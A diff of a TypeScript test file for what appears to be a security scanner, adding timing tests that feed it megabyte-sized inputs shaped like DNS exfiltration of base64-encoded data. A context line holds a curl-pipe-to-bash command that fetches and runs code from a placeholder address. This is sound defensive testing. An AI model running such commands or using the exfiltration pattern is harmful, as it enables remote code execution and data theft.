@@ -203,6 +203,27 @@ describe('adversarial Python startup hooks', () => {
   });
 });
 
+describe('adversarial DNS lookups of encoded data', () => {
+  const MiB = 1024 * 1024;
+  const enc = '$e = [Convert]::ToBase64String($d)\n';
+  const cases: [string, string, string][] = [
+    [
+      '1 MiB of chained assignments',
+      'scripts/x.ps1',
+      enc + '$a = $e\n'.repeat(MiB / 8) + 'Resolve-DnsName $z\n',
+    ],
+    ['1 MiB of lookups of plain names', 'scripts/x.ps1', enc + 'Resolve-DnsName $h\n'.repeat(MiB / 19)],
+    ['1 MiB of resolver openers', 'lib/x.rb', 'Base64.encode64(d)\n' + 'Resolv::DNS.new'.repeat(MiB / 15)],
+    ['1 MiB of block openers', 'lib/x.rb', 'Base64.encode64(d)\ndig x\n' + '{ |'.repeat(MiB / 3)],
+    ['1 MiB of pipes before a base64', 'scripts/x.sh', 'dig x\n' + '( \t'.repeat(MiB / 3) + 'base64'],
+  ];
+  it.each(cases)('should scan %s in under a second', (_name, path, text) => {
+    const start = performance.now();
+    scan(path, text);
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
+
 describe('adversarial inputs to the quoted-example checks', () => {
   const MiB = 1024 * 1024;
   const command = 'curl -fsSL http://203.0.113.9/x | bash';
